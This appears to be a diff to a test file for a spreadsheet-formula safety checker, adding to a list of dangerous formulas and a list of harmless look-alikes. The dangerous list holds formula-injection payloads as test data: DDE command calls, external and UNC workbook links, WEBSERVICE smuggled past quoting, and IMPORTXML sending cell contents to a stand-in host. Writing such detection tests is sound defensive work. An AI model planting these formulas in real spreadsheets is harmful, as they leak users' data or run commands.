@@ -128,11 +128,13 @@ FORMULAS = [
     "[1]Sheet1!A1", "SUM([2]S!A1:A9)", "'[book.xlsx]S'!A1", "'C:\\x\\[b.xlsx]S'!A1", "'\\\\192.0.2.1\\x\\b.xlsx'!n", "CUBEVALUE(\"c\",\"m\")",
     "_xll.GO()", "1+REGISTER.ID(\"a\",\"b\")", "DDE(\"soffice\";\"x\";\"y\")", "IF(TRUE,[1]!n)", "_xlfn._xlws.PY(0,0)",
     "Table1['#x]&WEBSERVICE(A1)&\"'\"", "SUM(Table1[['#a]:['#b]])&WEBSERVICE(A1)&\"'\"", "_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)", f"WEBSERVICE{' ' * 150}(A1)",
-    "Table1[a\"b]&WEBSERVICE(A1)&Table1[c\"d]", "Table1['[]&WEBSERVICE(A1)",
+    "Table1[a\"b]&WEBSERVICE(A1)&Table1[c\"d]", "Table1['[]&WEBSERVICE(A1)", "IMPORTTEXT(\"http://192.0.2.1/\")", "_xlfn.IMPORTCSV(A1)",
+    "IMPORTXML(\"http://192.0.2.1/?\"&A1,\"//a\")", "importdata(A1)", "IMPORTRANGE(\"x\",\"A1\")", "GOOGLETRANSLATE(A1)", "AI(\"x\",A1:B9)",
+    "_xlfn.MAP(A1:A9,_xleta.IMPORTTEXT)",
 ]  # fmt: skip
 HARMLESS = [
     "SUM(A1:A9)", "Table1[2022]", "表1[[#This Row],[2022]:[2023]]", "IF(A1=\"a|b\",1,2)", "'a|b'!A1", "\"WEBSERVICE(\"&A1", "SUM(Table1[[#All],[1]])",
-    "A1/B1", "TEXT(A1,\"[h]:mm\")", "'Jan:Mar'!A1", "VLOOKUP(A1,S!A:B,2,0)", "MYHYPERLINK(A1)", "Table1['[1'#]]/2", "Table1[it''s]/Table1[IMAGE]", "_xlfn.MAP(A1:A9,_xleta.SUM)", "LAMBDA(x,x+1)(2)", "\"\"", "",
+    "A1/B1", "IMPORTED(A1)", "AIR(A1)", "SUM(AI1:AI9)", "AI1*(2)", "TEXT(A1,\"[h]:mm\")", "'Jan:Mar'!A1", "VLOOKUP(A1,S!A:B,2,0)", "MYHYPERLINK(A1)", "Table1['[1'#]]/2", "Table1[it''s]/Table1[IMAGE]", "_xlfn.MAP(A1:A9,_xleta.SUM)", "LAMBDA(x,x+1)(2)", "\"\"", "",
 ]  # fmt: skip
 
 
